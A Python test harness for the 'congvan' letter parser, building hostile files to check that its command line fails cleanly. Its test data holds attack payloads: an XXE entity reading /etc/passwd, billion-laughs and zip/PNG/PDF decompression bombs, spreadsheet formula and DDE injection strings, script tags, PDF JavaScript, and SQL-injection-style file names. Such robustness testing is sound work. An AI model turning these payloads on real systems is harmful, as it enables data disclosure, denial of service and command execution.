"""Hostile inputs and faults, made on the spot, and how to run them against the command line.

Each `Case` builds its input in a folder of its own and names the `congvan` command to run
on it. `run` runs it as a user would (a new process, its own folder as the working folder,
TMPDIR and HOME inside the case) and judges it: the command exits 0 with a sane result or
gives one `congvan: error:` line, within the case's time and memory limits, leaves no file
outside its output folder, and no spreadsheet cell it wrote is a live formula. Used by
`tests/test_hostile.py` (every case a test) and `benchmarks/bench_hostile.py` (the table by
family: tried, clean, slowest, peak memory).
"""
from __future__ import annotations

import csv
import io
import os
import shutil
import signal
import struct
import subprocess
import sys
import threading
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

SAMPLES = Path(__file__).resolve().parent.parent / "data" / "samples"
SEED = SAMPLES / "001_091bf70c372fa8e6.txt"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def congvan() -> list[str]:
    exe = Path(sys.executable).with_name("congvan")
    return [str(exe)] if exe.exists() else [sys.executable, "-m", "congvan"]


@dataclass(frozen=True)
class Case:
    family: str
    name: str
    make: Callable[[Path], list[str]]   # builds the input under the folder it is given, returns the argv
    seconds: float = 90.0
    memory_mb: int = 1500
    codes: tuple[int, ...] = (0, 2)     # 0: a record or an export; 2: one error line
    # Heavy cases are about size (megabytes of text, hundreds of pages): their time is
    # a speed figure, so they run in benchmarks/bench_hostile.py, not in the test suite.
    heavy: bool = False


@dataclass
class Outcome:
    case: Case
    clean: bool
    seconds: float
    peak_mb: float
    detail: str


# ----------------------------------------------------------------- builders


def png(width: int, height: int) -> bytes:
    """A white greyscale PNG of any size, its rows compressed (a pixel bomb is small on disk)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    z = zlib.compressobj(9)
    raw = b"".join(z.compress(b"\x00" + b"\xff" * width) for _ in range(height)) + z.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", raw) + chunk(b"IEND", b""))


def _pdf(objects: list[bytes], root: int = 1) -> bytes:
    out = b"%PDF-1.4\n"
    offsets = []
    for i, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return out + b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)


def _page_pdf(contents: bytes, extra: bytes = b"") -> bytes:
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                 b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R " + extra + b">>",
                 b"<< /Length %d >>\nstream\n" % len(contents) + contents + b"\nendstream"])


def _flate_bomb(mb: int) -> bytes:
    z = zlib.compressobj(9)
    stream = b"".join(z.compress(b" " * (1 << 20)) for _ in range(mb)) + z.flush()
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                 b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
                 b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream"])


def _zip(entries: dict[str, bytes], compress: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compress) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return buf.getvalue()


def _docx(body: str, numbering: str | None = None) -> bytes:
    from test_docx_hostile import make_docx  # the Word package builder of the DOCX tests

    return make_docx(body, numbering=numbering)


def _item(text: str, ilvl: str = "0") -> str:
    return (f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{ilvl}"/><w:numId w:val="1"/></w:numPr></w:pPr>'
            f"<w:r><w:t>{text}</w:t></w:r></w:p>")


def _numbering(start: str = "1", fmt: str = "decimal", text: str = "%1.") -> str:
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return (f'<w:numbering xmlns:w="{w}"><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="{start}"/>'
            f'<w:numFmt w:val="{fmt}"/><w:lvlText w:val="{text}"/></w:lvl></w:abstractNum>'
            '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>')


_ITEMS = _item("Rà soát công việc") * 3


def _table(grid: str, span: str) -> str:
    return (f'<w:tbl><w:tblGrid><w:gridCol w:w="{grid}"/></w:tblGrid><w:tr><w:tc><w:tcPr><w:gridSpan w:val="{span}"/>'
            '</w:tcPr><w:p><w:r><w:t>Nơi nhận:</w:t></w:r></w:p></w:tc></w:tr></w:tbl>')


def _write(folder: Path, name: str | bytes, data: bytes) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    if isinstance(name, bytes):
        path = os.path.join(os.fsencode(folder), name)
        with open(path, "wb") as fh:
            fh.write(data)
        return Path(os.fsdecode(path))
    path = folder / name
    path.write_bytes(data)
    return path


def _parse(name: str, data: bytes | Callable[[], bytes], *args: str) -> Callable[[Path], list[str]]:
    def make(case: Path) -> list[str]:
        path = _write(case / "in", name, data() if callable(data) else data)
        return ["parse", "--json", *args, str(path)]
    return make


_CITATION = "Thực hiện Công văn số 4217/UBND-TH ngày 04/5/2023 của UBND tỉnh Khánh Hòa về việc triển khai.\n"
_HEAD = "BỘ CÔNG THƯƠNG\nSố: 12/BCT-VP\nHà Nội, ngày 27 tháng 4 năm 2023\nKính gửi: Các đơn vị thuộc Bộ\n"


def _long(unit: str, size: int) -> Callable[[], bytes]:
    return lambda: (_HEAD + unit * (size // len(unit.encode()) + 1)).encode()


def _directives(size: int) -> Callable[[], bytes]:
    def make() -> bytes:
        parts = [_HEAD]
        n = 0
        while sum(map(len, parts)) < size:
            n += 1
            parts.append(f"{n}. Giao Sở Công Thương chủ trì, phối hợp với Sở Tài chính rà soát trước ngày 15/6/2023.\n"
                         f"a) Sở Xây dựng báo cáo kết quả về Ủy ban nhân dân tỉnh.\n- Các phòng thực hiện.\n")
        return "".join(parts).encode()
    return make


# ----------------------------------------------------------------- a store with hostile values

HOSTILE_LETTER = """BỘ CÔNG THƯƠNG                        CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM
                                      Độc lập - Tự do - Hạnh phúc
Số: {number}/BCT-{symbol}                        Hà Nội, ngày 27 tháng 4 năm 2023
V/v =HYPERLINK("http://x.invalid/?s="&A1,"bấm") <!--<script>alert(1)</script> \x1b[31m

Kính gửi:
- =cmd|' /C calc'!A0;
- +Sở Tài chính tỉnh Khánh Hòa;
- @SUM(1+1) Sở Nội vụ.

1. Giao -Sở Công Thương chủ trì thực hiện trước ngày 15/6/2023.
2. Giao Sở $\\frac{{a}}{{$ Nội vụ báo cáo trước ngày 20/6/2023.
3. Đề nghị =Sở Tài chính\x1b phối hợp thực hiện trước ngày 01 tháng 01 năm 1945.

Nơi nhận:                                    KT. BỘ TRƯỞNG
- =1+1;                                      THỨ TRƯỞNG
- Như trên;
- Lưu: VT, @VP.                              Nguyễn Văn =An
"""


_STORE_LOCK = threading.Lock()


def hostile_store(base: Path) -> Path:
    """A store of letters whose values are formulas, scripts, control characters and long
    symbols (made once per folder, by one of the cases that run at the same time)."""
    with _STORE_LOCK:
        return _build_store(base)


def _build_store(base: Path) -> Path:
    db = base / "hostile.duckdb"
    if db.exists():
        return db
    letters = base / "hostile-letters"
    letters.mkdir(parents=True, exist_ok=True)
    for i, symbol in enumerate(("VP", "VP" + "-X" * 150, "@VP", "=VP")):
        (letters / f"l{i}.txt").write_text(HOSTILE_LETTER.format(number=100 + i, symbol=symbol), encoding="utf-8")
    shutil.copy(SEED, letters / SEED.name)
    run = subprocess.run([*congvan(), "ingest", str(letters), "--db", str(db), "-j", "1"],
                         capture_output=True, text=True, timeout=300)
    if run.returncode != 0:
        raise RuntimeError(f"hostile store not built: {run.stderr[-500:]}")
    return db


def _export(fmt: str, *args: str) -> Callable[[Path], list[str]]:
    def make(case: Path) -> list[str]:
        db = hostile_store(case.parent)
        return ["export", fmt, str(db), *[a.replace("{out}", str(case / "out")) for a in args]]
    return make


def broken_store(db: Path, kind: str) -> None:
    """A file at `db` that is no congvan store: `empty`, `garbage`, a `folder`,
    an `sqlite` database, or a `foreign` DuckDB database (a table `invoices`)."""
    if kind == "empty":
        db.write_bytes(b"")
    elif kind == "garbage":
        db.write_bytes(bytes(range(256)) * 64)
    elif kind == "folder":
        db.mkdir()
    elif kind == "sqlite":
        import sqlite3

        con = sqlite3.connect(db)
        con.execute("CREATE TABLE t (a)")
        con.commit()
        con.close()
    elif kind == "foreign":
        import duckdb

        dcon = duckdb.connect(str(db))
        dcon.execute("CREATE TABLE invoices (id INTEGER)")
        dcon.close()
    else:
        raise ValueError(f"no broken store of kind {kind!r}")


def _store_case(kind: str, command: str) -> Callable[[Path], list[str]]:
    def make(case: Path) -> list[str]:
        db = case / "in" / "store.duckdb"
        db.parent.mkdir(parents=True, exist_ok=True)
        if kind == "truncated":
            src = hostile_store(case.parent)
            db.write_bytes(src.read_bytes()[: src.stat().st_size // 2])
        else:
            broken_store(db, kind)
        letters = case / "in" / "letters"
        letters.mkdir(exist_ok=True)
        shutil.copy(SEED, letters / SEED.name)
        return {"ingest": ["ingest", str(letters), "--db", str(db), "-j", "1"],
                "register": ["export", "register", "den", str(db), "-o", str(case / "out" / "r.xlsx")],
                "graph": ["graph", "--db", str(db)],
                "tasks": ["tasks", str(db)],
                "taskwarrior": ["export", "taskwarrior", str(db)]}[command]
    return make


def _option_file(flag: str, content: bytes, suffix: str) -> Callable[[Path], list[str]]:
    def make(case: Path) -> list[str]:
        db = hostile_store(case.parent)
        path = _write(case / "in", f"option{suffix}", content)
        if flag == "--organ-ids":
            return ["export", "edxml", str(db), "-o", str(case / "out" / "edxml"), flag, str(path)]
        return ["export", "handling-report", str(db), "-o", str(case / "out" / "bc.html"), flag, str(path)]
    return make


def _ingest_names(*names: bytes) -> Callable[[Path], list[str]]:
    def make(case: Path) -> list[str]:
        for name in names:
            _write(case / "in", name, SEED.read_bytes())
        return ["ingest", str(case / "in"), "--db", str(case / "out" / "s.duckdb"), "-j", "1"]
    return make


def _ingest_special(kind: str) -> Callable[[Path], list[str]]:
    def make(case: Path) -> list[str]:
        folder = case / "in"
        folder.mkdir(parents=True, exist_ok=True)
        shutil.copy(SEED, folder / "letter.txt")
        if kind == "symlink_loop":
            os.symlink("loop", folder / "loop")
            os.symlink(".", folder / "self")
        elif kind == "dangling":
            os.symlink(folder / "nowhere.pdf", folder / "gone.pdf")
        elif kind == "fifo":
            os.mkfifo(folder / "pipe.txt")
        elif kind == "folder_named_pdf":
            (folder / "scan.pdf").mkdir()
        elif kind == "deep":
            here = os.getcwd()
            try:
                os.chdir(folder)
                for _ in range(22):
                    os.mkdir("d" * 200)
                    os.chdir("d" * 200)
                Path("lost.txt").write_bytes(SEED.read_bytes())
            finally:
                os.chdir(here)
        elif kind == "sparse_huge":
            with (folder / "huge.pdf").open("wb") as fh:
                fh.write(b"%PDF-1.4\n")
                fh.truncate(300 * 1024 * 1024)
        return ["ingest", str(folder), "--db", str(case / "out" / "s.duckdb"), "-j", "1"]
    return make


def _fifo_parse(case: Path) -> list[str]:
    (case / "in").mkdir(parents=True, exist_ok=True)
    os.mkfifo(case / "in" / "letter.txt")
    return ["parse", str(case / "in" / "letter.txt")]


# ----------------------------------------------------------------- the cases


def cases() -> list[Case]:
    utf8 = SEED.read_bytes()
    out: list[Case] = []

    def add(family: str, name: str, make: Callable[[Path], list[str]], **kw: object) -> None:
        out.append(Case(family, name, make, **kw))  # type: ignore[arg-type]

    # Text letters: odd bytes, encodings and sizes; parsing must stay linear.
    for name, data in [("empty", b""), ("spaces", b" \n" * 5000), ("nul", b"\x00" * 4096),
                       ("random", bytes(range(256)) * 200), ("utf16_odd", b"\xff\xfe" + utf8[:101]),
                       ("latin1", "Grüße aus Köln, schöne Straße. ".encode("latin-1") * 100),
                       ("bidi", ("\u202eSố: 1/UBND-VP\u202c\n" * 200).encode()),
                       ("control", ("\x1b[2J\x07" * 500).encode() + utf8),
                       ("combining", ("a" + "\u0301" * 5000).encode()),
                       ("cr_only", utf8.replace(b"\n", b"\r")),
                       ("bom_twice", b"\xef\xbb\xbf\xef\xbb\xbf" + utf8)]:
        add("text", name, _parse(f"{name}.txt", data))
    add("text", "one_line_3mb", _parse("one_line_3mb.txt", (_CITATION.strip() + " ").encode() * 30000), heavy=True)
    add("text", "citations_2mb", _parse("c.txt", _long(_CITATION, 2_000_000)), seconds=120, heavy=True)
    add("text", "letter_items_1_4mb", _parse("a.txt", _long("a) Giao Sở Công Thương thực hiện.\n", 1_400_000)),
        seconds=120, heavy=True)
    add("text", "directives_3mb", _parse("d.txt", _directives(3_000_000)), seconds=180, heavy=True)
    add("text", "over_size_limit", _parse("big.txt", lambda: b"x" * (201 * 1024 * 1024)), memory_mb=2500)
    add("text", "not_a_letter_named_docx", _parse("note.docx", "Danh sách việc cần làm.\n".encode()))
    add("text", "readme", _parse("README.md", b"# Project\n"))
    add("text", "fifo", _fifo_parse)

    # Word packages.
    for name, (body, numbering) in {
        "roman_10e18": (_ITEMS, _numbering("1000000000000000000", "upperRoman")),
        "letters_4e9": (_ITEMS, _numbering("4000000000", "lowerLetter")),
        "label_explosion": (_ITEMS, _numbering(text="%1" * 5000)),
        "start_not_int": (_ITEMS, _numbering("xyz")),
        "start_float": (_ITEMS, _numbering("1e400")),
        "ilvl_huge": (_item("Rà soát", ilvl="99999999999999999999"), _numbering()),
        "grid_nan": (_table("NaN", "1"), None), "grid_1e308": (_table("1e308", "2"), None),
        "span_not_int": (_table("2000", "two"), None), "span_huge": (_table("2000", "999999999"), None),
        "nested_tables": ("<w:tbl><w:tr><w:tc>" * 3000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 3000, None),
    }.items():
        add("docx", name, _parse(f"{name}.docx", lambda b=body, n=numbering: _docx(b, n)))
    add("docx", "not_a_zip", _parse("x.docx", b"PK\x03\x04" + bytes(2000)))
    add("docx", "zip_bomb", _parse("bomb.docx", lambda: _zip({"word/document.xml": b"<" * (300 * 1024 * 1024)})),
        memory_mb=2000)
    add("docx", "many_entries", _parse("many.docx", lambda: _zip({f"f{i}.xml": b"x" for i in range(20000)},
                                                                   zipfile.ZIP_STORED)))
    add("docx", "xxe", _parse("xxe.docx", lambda: _zip({
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "word/document.xml": b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'})))
    add("docx", "billion_laughs", _parse("laughs.docx", lambda: _zip({
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "word/document.xml": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;'
                             b'&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;'
                             b'&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]><l>&e;&e;&e;</l>'})))
    add("docx", "no_document_part", _parse("empty.docx", lambda: _zip({"[Content_Types].xml": b"<Types/>"})))

    # Images.
    for name, (w, h) in {"strip_tall": (50, 200_000), "strip_wide": (8_000_000, 1), "huge_side": (20_001, 3_000),
                         "pixel_bomb": (30_000, 30_000), "one_pixel": (1, 1)}.items():
        add("image", name, _parse(f"{name}.png", lambda w=w, h=h: png(w, h)), memory_mb=1500)
    add("image", "truncated_png", _parse("t.png", lambda: png(400, 400)[:300]))
    add("image", "garbage_jpeg", _parse("g.jpg", b"\xff\xd8\xff\xe0" + bytes(5000)))
    add("image", "gif_bomb_header", _parse("g.gif", b"GIF89a" + struct.pack("<HH", 65535, 65535) + bytes(20)))
    add("image", "tiff_many_pages", _parse("m.tif", lambda: _tiff_pages(150)), seconds=120, heavy=True)

    # PDFs.
    add("pdf", "flate_bomb_1gb", _parse("bomb.pdf", lambda: _flate_bomb(1024)), memory_mb=1500, seconds=120)
    add("pdf", "no_root", _parse("r.pdf", b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"))
    add("pdf", "truncated", _parse("t.pdf", lambda: _page_pdf(b"BT /F1 12 Tf (x) Tj ET")[:80]))
    add("pdf", "page_count_lies", _parse("c.pdf", _pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                                                        b"<< /Type /Pages /Kids [] /Count 100000000 >>"])))
    add("pdf", "page_tree_loop", _parse("l.pdf", _pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                                                       b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])))
    add("pdf", "nested_arrays", _parse("n.pdf", _page_pdf(b"[" * 100000 + b"]" * 100000)))
    add("pdf", "huge_mediabox", _parse("m.pdf", _pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                                                      b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                                                      b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9e9 9e9] >>"])))
    add("pdf", "garbage_after_header", _parse("g.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 100))
    add("pdf", "scanned_400_pages", _parse("s.pdf", lambda: _scanned_pdf(400), "--ocr-pages", "2"), seconds=180, heavy=True)
    add("pdf", "javascript_action", _parse("js.pdf", _page_pdf(
        b"BT /F1 12 Tf 72 720 Td (So: 1/UBND-VP) Tj ET", b"/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >>")))

    # Legacy Word and RTF.
    add("doc", "ole_header_only", _parse("x.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000)))
    add("doc", "random_doc", _parse("r.doc", bytes(range(256)) * 50))
    add("rtf", "deep_groups", _parse("d.rtf", b"{\\rtf1 " + b"{" * 50000 + b"x" + b"}" * 50000 + b"}"))
    add("rtf", "huge_bin", _parse("b.rtf", b"{\\rtf1 \\bin999999999999 x}"))
    add("rtf", "unclosed", _parse("u.rtf", b"{\\rtf1\\ansi " + "Số: 1/UBND-VP".encode() * 100))
    add("rtf", "bad_codepage", _parse("c.rtf", b"{\\rtf1\\ansicpg99999 \\'e0\\'e1 x}"))

    # File names and special files in a folder to ingest.
    add("names", "not_utf8", _ingest_names(b"c\xf4ng-v\xe3n.txt", b"\xff\xfe.txt"))
    add("names", "sql_looking", _ingest_names(b"'; DROP TABLE files; --.txt", b"x\" OR 1=1.txt"))
    add("names", "newline_in_name", _ingest_names(b"line\nbreak.txt", b"tab\there.txt"))
    add("names", "dash_first", _ingest_names(b"-rf.txt", b"--db.txt"))
    for kind in ("symlink_loop", "dangling", "fifo", "folder_named_pdf", "deep", "sparse_huge"):
        add("names", kind, _ingest_special(kind))

    # Stores that cannot be used, at every command that opens one.
    for kind in ("empty", "garbage", "folder", "sqlite", "foreign", "truncated"):
        for command in ("ingest", "register", "graph", "tasks", "taskwarrior"):
            if kind in ("empty", "folder") and command in ("tasks", "taskwarrior"):
                continue
            add("stores", f"{kind}_{command}", _store_case(kind, command))

    # Exports of letters whose values are formulas, scripts and control characters.
    for fmt, args in [("register", ("den", "-o", "{out}/den.xlsx")), ("register", ("di", "-o", "{out}/di.csv")),
                      ("register", ("theo-doi", "-o", "{out}/td.xlsx")), ("edxml", ("-o", "{out}/edxml")),
                      ("handling-report", ("-o", "{out}/bc.xlsx")), ("handling-report", ("-o", "{out}/bc.html")),
                      ("jira", ("-o", "{out}/jira.csv")), ("gitlab", ("-o", "{out}/gitlab.csv")),
                      ("todoist", ("-o", "{out}/todoist.csv")), ("taskwarrior", ("-o", "{out}/tw.json")),
                      ("ical", ("-o", "{out}/t.ics")), ("csv", ("-o", "{out}/t.csv")), ("jsonl", ("-o", "{out}/t.jsonl")),
                      ("parquet", ("-o", "{out}/pq"))]:
        add("exports", f"{fmt}_{args[-1].rsplit('/', 1)[-1]}", _export(fmt, *args))
    add("exports", "graph_page", lambda case: _graph_page(case))

    # Option files.
    for name, flag, content, suffix in [("organ_ids_list", "--organ-ids", b"[1, 2, 3]", ".json"),
                                        ("organ_ids_empty_csv", "--organ-ids", b"", ".csv"),
                                        ("organ_ids_int_code", "--organ-ids", b'{"B\xe1\xbb\x99 C\xc3\xb4ng": 12}', ".json"),
                                        ("organ_ids_binary", "--organ-ids", bytes(range(256)), ".csv"),
                                        ("done_garbage", "--done", bytes(range(256)) * 10, ".json"),
                                        ("done_wrong_shape", "--done", b'{"tasks": 3}', ".json")]:
        add("options", name, _option_file(flag, content, suffix))
    add("options", "bad_day", lambda case: ["export", "register", "den", str(hostile_store(case.parent)),
                                           "-o", str(case / "out" / "r.csv"), "--since", "2023-13-45"])
    add("options", "negative_ocr_pages", lambda case: ["parse", "--ocr-pages", "-1", str(SEED)])
    add("options", "unknown_engine", lambda case: ["ingest", str(SEED), "--db", str(case / "out" / "s.duckdb"),
                                                  "--engine", "spark"])
    add("options", "bad_scheduler", lambda case: ["ingest", str(SEED), "--db", str(case / "out" / "s.duckdb"),
                                                 "--engine", "dask", "--scheduler", "tcp://127.0.0.1:9"], seconds=60)
    return out


def _graph_page(case: Path) -> list[str]:
    db = hostile_store(case.parent)
    script = ("import sys, congvan; congvan.graph_html(congvan.load_graph(sys.argv[1]), sys.argv[2]); "
              "page = open(sys.argv[2], encoding='utf-8').read(); "
              "assert page.count('<script') == page.count('</script>'), 'a subject opened a script'")
    return ["!python", "-c", script, str(db), str(case / "out" / "graph.html")]


def _tiff_pages(n: int) -> bytes:
    from PIL import Image

    frames = [Image.new("1", (200, 280), 1) for _ in range(n)]
    buf = io.BytesIO()
    frames[0].save(buf, format="TIFF", save_all=True, append_images=frames[1:])
    return buf.getvalue()


def _scanned_pdf(n: int) -> bytes:
    from PIL import Image

    pages = [Image.new("L", (200, 280), 255) for _ in range(n)]
    buf = io.BytesIO()
    pages[0].save(buf, format="PDF", save_all=True, append_images=pages[1:], resolution=24)
    return buf.getvalue()


# ----------------------------------------------------------------- running


def _files(folder: Path) -> set[str]:
    out: set[str] = set()
    for root, dirs, files in os.walk(folder):
        for name in dirs + files:
            out.add(os.path.relpath(os.path.join(root, name), folder))
    return out


def _formulas(folder: Path) -> list[str]:
    """Cells of the spreadsheets and CSV files written that a spreadsheet would run."""
    found: list[str] = []
    for path in folder.rglob("*"):
        if path.suffix == ".csv":
            text = path.read_text(encoding="utf-8-sig", errors="replace")
            for row in csv.reader(io.StringIO(text)):
                found += [f"{path.name}: {c[:40]!r}" for c in row if c.startswith(FORMULA_START)]
        elif path.suffix == ".xlsx":
            import openpyxl

            wb = openpyxl.load_workbook(path)
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    found += [f"{path.name}!{c.coordinate}: {str(c.value)[:40]!r}" for c in row if c.data_type == "f"]
    return found


def _watch_peak(proc: subprocess.Popen[bytes], peaks: list[float]) -> None:
    """VmHWM of the running command (MB), read every 20 ms until it exits."""
    status = Path(f"/proc/{proc.pid}/status")
    while proc.returncode is None:
        try:
            for line in status.read_text().splitlines():
                if line.startswith("VmHWM:"):
                    peaks.append(int(line.split()[1]) / 1024)
        except (OSError, ValueError):
            return
        time.sleep(0.02)


def run(case: Case, base: Path) -> Outcome:
    """Run one case in `base/<family>-<name>` and judge it."""
    folder = base / f"{case.family}-{case.name}"
    if folder.exists():
        shutil.rmtree(folder, ignore_errors=True)
    for sub in ("in", "out", "tmp", "home"):
        (folder / sub).mkdir(parents=True, exist_ok=True)
    argv = case.make(folder)
    before = _files(folder / "in")
    cmd = [sys.executable, *argv[1:]] if argv[0] == "!python" else [*congvan(), *argv]
    env = {**os.environ, "TMPDIR": str(folder / "tmp"), "HOME": str(folder / "home"), "PYTHONDONTWRITEBYTECODE": "1"}
    t0 = time.perf_counter()
    proc = subprocess.Popen(cmd, cwd=folder / "out", env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, start_new_session=True)
    killed = threading.Event()

    def kill() -> None:
        killed.set()
        try:
            os.killpg(proc.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass

    timer = threading.Timer(case.seconds, kill)
    peaks: list[float] = []
    watcher = threading.Thread(target=_watch_peak, args=(proc, peaks), daemon=True)
    watcher.start()
    timer.start()
    chunks: dict[str, bytes] = {}
    readers = [threading.Thread(target=lambda k=k, s=s: chunks.__setitem__(k, s.read()))
               for k, s in (("out", proc.stdout), ("err", proc.stderr))]
    for r in readers:
        r.start()
    _, status, usage = os.wait4(proc.pid, 0)
    timer.cancel()
    for r in readers:
        r.join()
    proc.returncode = os.waitstatus_to_exitcode(status)
    seconds = time.perf_counter() - t0
    watcher.join()
    # The process's own high-water mark: ru_maxrss would count the runner's memory too,
    # since Linux carries a process's peak over fork and exec.
    peak = max(peaks) if peaks else usage.ru_maxrss / 1024
    err = chunks.get("err", b"").decode("utf-8", "replace")
    problems: list[str] = []
    if killed.is_set():
        problems.append(f"no answer within {case.seconds:g} s")
    elif proc.returncode not in case.codes:
        problems.append(f"exit {proc.returncode}")
    if "Traceback" in err:
        problems.append("a traceback: " + err.strip().splitlines()[-1][:200])
    if proc.returncode == 2:
        errors = [l for l in err.splitlines() if l.startswith("congvan: error:")]
        others = [l for l in err.splitlines() if l.strip() and not l.startswith(("congvan: warning:", "ingest:"))
                  and l not in errors]
        if len(errors) != 1 or others:
            problems.append(f"not one error line: {err.strip()[:300]!r}")
    if peak > case.memory_mb:
        problems.append(f"peak {peak:.0f} MB over {case.memory_mb} MB")
    if _files(folder / "in") != before:
        problems.append("the input folder changed")
    for sub in ("tmp", "home"):
        left = _files(folder / sub)
        if left:
            problems.append(f"left files in {sub.upper()}: {sorted(left)[:3]}")
    formulas = _formulas(folder / "out")
    if formulas:
        problems.append(f"live formulas: {formulas[:3]}")
    detail = "; ".join(problems) or (err.strip().splitlines()[-1][:160] if err.strip() else "ok")
    if case.family != "stores":
        shutil.rmtree(folder, ignore_errors=True)
    return Outcome(case, not problems, seconds, peak, detail)
